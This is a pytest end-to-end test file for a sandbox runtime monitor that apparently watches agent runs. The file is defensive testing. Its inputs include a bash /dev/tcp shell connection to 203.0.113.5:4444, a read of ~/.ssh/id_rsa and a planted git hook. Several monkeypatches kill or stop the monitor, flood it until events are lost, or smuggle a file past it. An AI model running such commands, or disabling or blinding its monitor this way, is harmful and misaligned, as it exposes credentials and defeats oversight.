"""Whole runs under the runtime monitor: what it sees is decided and recorded, ends or holds them; its loss, too."""

from __future__ import annotations

import hashlib
import os
import time
from pathlib import Path

import pytest

from tests.e2e.conftest import Done, House

_HOOK = """\
import threading
def after_begin(act):
    import vestibule.pipeline.monitor as module
    original = module.HostMonitor.watch
    def watch(self, sandbox):
        ended = original(self, sandbox)
        threading.Timer(0.5, act, (self,)).start()
        return ended
    module.HostMonitor.watch = watch
"""


@pytest.fixture(autouse=True)
def _needs_monitor() -> None:
    from vestibule.pipeline.monitor import monitor_here

    standing = monitor_here().standing()
    if not standing.up:
        why = f"the BPF monitor (root, libbpf.so.1, a kernel with BTF) does not stand here: {standing.proved_by}"
        if os.environ.get("CI"):
            pytest.fail(why)
        pytest.skip(why)


def host_events(done: Done) -> list[tuple[str, str, str]]:
    return [
        (event["action"], event["verdict"], event["details"].get("behaviour", ""))
        for event in done.json["events"]
        if event["action"].startswith("host.") and event["phase"] == "intent"
    ]


def test_a_shell_that_reaches_out_is_ended_within_a_second_and_refused(house: House) -> None:
    started = time.monotonic()
    done = house.change("echo '#' >> src/app.py; bash -c 'exec 3<>/dev/tcp/203.0.113.5/4444'; sleep 100")
    assert time.monotonic() - started < 60, "nothing waits for the program's own end"
    assert done.code == 4, (done.out, done.err)
    assert [item["rule"] for item in done.json["refusals"]] == ["host.behaviour"]
    assert ("host.connect", "deny", "shell-connects") in host_events(done)
    assert not done.json["head_commit"]
    assert "Monitor: A shell itself opens a connection" in done.err


def test_ordinary_work_is_watched_agrees_with_its_patch_and_is_held_by_nothing(house: House) -> None:
    done = house.change(
        "git status >/dev/null; git diff >/dev/null; echo x > /tmp/cache; mkdir -p ~/.cache; echo y > ~/.cache/z; "
        "mkdir src/new; echo 1 > src/new/.tmp; mv src/new/.tmp src/new/a.py; mv src/new src/moved; "
        "python3 -c \"open('src/app.py','a').write('#')\"; rm tests/test_app.py; cat /proc/self/status > /dev/null"
    )
    assert done.code == 3, (done.out, done.err)
    assert host_events(done) == []
    assert not [item for item in done.json["findings"] if item["rule"].startswith("host.")]
    report = done.json["monitor"]
    assert (report["rung"], report["lost"], report["cut"]) == ("tracepoints", 0, False)
    assert report["events"] > 5
    assert {"/usr/bin/git", "/usr/bin/rm"} <= {item["path"] for item in report["programs"] if item["sha256"]}
    assert done.json["sandbox"]["walls"]["monitor"] == done.json["sandbox"]["walls"]["cgroup_egress"] == "up"
    kept = house.home / "runs" / done.json["run"] / report["file"]
    assert kept.stat().st_mode & 0o777 == 0o600
    assert hashlib.sha256(kept.read_bytes()).hexdigest() == report["sha256"]
    (outcome,) = [
        item for item in done.json["events"] if item["action"] == "agent.start" and item["phase"] == "outcome"
    ]
    assert outcome["details"]["monitor"]["sha256"] == report["sha256"]
    assert house.vestibule("audit", "verify", "--json").json["ok"]


def test_a_hook_is_held_for_a_person(house: House) -> None:
    done = house.change("echo '#' >> src/app.py; mkdir -p .git/hooks; echo 'echo hi' > .git/hooks/post-checkout")
    assert done.code == 3, (done.out, done.err)
    assert ("host.open", "hold", "git-hook") in host_events(done)
    assert [item["rule"] for item in done.json["findings"]] == ["host.suspicious"]


def test_a_file_that_nobody_inside_was_seen_to_write_holds_the_change(house: House, tmp_path: Path) -> None:
    patch = tmp_path / "patch" / "sitecustomize.py"
    patch.parent.mkdir()
    patch.write_text(
        "import vestibule.boundary.changes.export as module\n"
        "original = module.export_workspace\n"
        "def export(workspace, view, *more):\n"
        "    (workspace / 'src' / 'smuggled.py').write_text('1')\n"
        "    return original(workspace, view, *more)\n"
        "module.export_workspace = export\n"
    )
    done = house.change(env={"PYTHONPATH": str(patch.parent)})
    assert done.code == 3, (done.out, done.err)
    assert [(item["rule"], item["path"]) for item in done.json["findings"]] == [("host.unwritten", "src/smuggled.py")]
    assert any(event["reasons"] == ["host.unwritten"] for event in done.json["events"])


def test_an_organisation_may_end_what_is_only_noted_otherwise(house: House) -> None:
    folder = house.folder / "policy"
    folder.mkdir()
    (folder / "org.rego").write_text(
        "package vestibule\n\nimport rego.v1\n\n"
        'default decision := {"verdict": "allow", "reasons": []}\n\n'
        'decision := {"verdict": "deny", "reasons": ["org.no_looking"]} if {\n'
        '\tinput.action == "host.exec"\n\tinput.resource.behaviour == "credential-look"\n}\n'
    )
    house.operate(f"policy: [{str(folder)!r}]\n")
    done = house.change("echo '#' >> src/app.py; cat ~/.ssh/id_rsa; sleep 60")
    assert done.code == 4, (done.out, done.err)
    assert "org.no_looking" in [item["rule"] for item in done.json["refusals"]]


@pytest.mark.parametrize("signal", ["SIGKILL", "SIGSTOP"])
def test_a_monitor_that_is_killed_or_stopped_ends_the_run(house: House, tmp_path: Path, signal: str) -> None:
    patch = tmp_path / "patch" / "sitecustomize.py"
    patch.parent.mkdir()
    patch.write_text(
        f"{_HOOK}\nimport os, signal\nafter_begin(lambda self: os.kill(self._services.monitor.pid, signal.{signal}))\n"
    )
    started = time.monotonic()
    done = house.change("echo '#' >> src/app.py; sleep 100", env={"PYTHONPATH": str(patch.parent)})
    assert time.monotonic() - started < 60
    assert done.code == 4, (done.out, done.err)
    assert [item["rule"] for item in done.json["refusals"]] == ["dependency.monitor"]
    assert not done.json["head_commit"]


def test_events_that_are_lost_end_the_run(house: House, tmp_path: Path) -> None:
    patch = tmp_path / "patch" / "sitecustomize.py"
    patch.parent.mkdir()
    patch.write_text(
        f"{_HOOK}\n"
        "import vestibule.boundary.host.monitor as host\n"
        "begin = host.Monitor.__init__\n"
        "host.Monitor.__init__ = lambda self, *a, **k: begin(self, *a, **{**k, 'ring_bytes': 4096})\n"
    )
    storm = "import os\nfor i in range(20000): os.close(os.open('/tmp/x', os.O_WRONLY | os.O_CREAT))"
    done = house.change(f'echo "#" >> src/app.py; python3 -c "{storm}"', env={"PYTHONPATH": str(patch.parent)})
    assert done.code == 4, (done.out, done.err)
    assert [item["rule"] for item in done.json["refusals"]] == ["dependency.monitor"]
    assert "lost" in done.json["refusals"][0]["fact"]


def test_a_minimum_with_a_monitor_is_refused_where_none_stands(house: House, tmp_path: Path) -> None:
    patch = tmp_path / "patch" / "sitecustomize.py"
    patch.parent.mkdir()
    patch.write_text(
        "import vestibule.boundary.host.monitor as host\n"
        "host.Monitor._launch = lambda self: self._none('this kernel has no BTF')\n"
    )
    house.operate(sandbox=", minimum: [mounts, network, monitor]")
    done = house.change(env={"PYTHONPATH": str(patch.parent)})
    assert done.code == 4, (done.out, done.err)
    assert "task.walls" in [item["rule"] for item in done.json["refusals"]]
    house.operate()
    done = house.change(env={"PYTHONPATH": str(patch.parent)})
    assert done.code == 3, (done.out, done.err)
    assert done.json["monitor"] == {**done.json["monitor"], "rung": "none", "why": "this kernel has no BTF"}
    assert done.json["sandbox"]["walls"]["monitor"] == "down"


def test_verify_commands_are_watched_too(house: House) -> None:
    config = (house.repo / ".vestibule" / "config.yaml").read_text()
    house.commit({".vestibule/config.yaml": f"{config}verify: {{commands: [['bash', 'src/check.sh']]}}\n"})
    done = house.change("echo 'exec 3<>/dev/tcp/203.0.113.5/4444; true' > src/check.sh")
    assert done.code == 3, (done.out, done.err)
    done = house.vestibule("review", done.json["run"], "--approve", "--reason", "Looks right.", "--json")
    assert done.code == 4, (done.out, done.err)
    assert "host.behaviour" in [item["rule"] for item in done.json["refusals"]]


def test_the_second_rung_sees_programs_and_files_and_says_that_it_is_the_second(house: House, tmp_path: Path) -> None:
    patch = tmp_path / "patch" / "sitecustomize.py"
    patch.parent.mkdir()
    patch.write_text("import vestibule.sandbox.local.limits as limits\nlimits.v2_folder = lambda: None\n")
    house.operate(sandbox=", minimum: [mounts, network, monitor]")
    shell = "echo '#' >> src/app.py; mkdir -p .git/hooks; echo x > .git/hooks/post-checkout; mv src/app.py src/b.py"
    done = house.change(shell, env={"PYTHONPATH": str(patch.parent)})
    assert done.code == 3, (done.out, done.err)
    report = done.json["monitor"]
    assert report["rung"] == "fanotify"
    assert "mv" in {Path(item["path"]).name for item in report["programs"]}
    assert [item["behaviour"] for item in report["matches"]] == ["git-hook"]
    walls = done.json["sandbox"]["walls"]
    assert (walls["monitor"], walls["cgroup_egress"]) == ("up", "down")
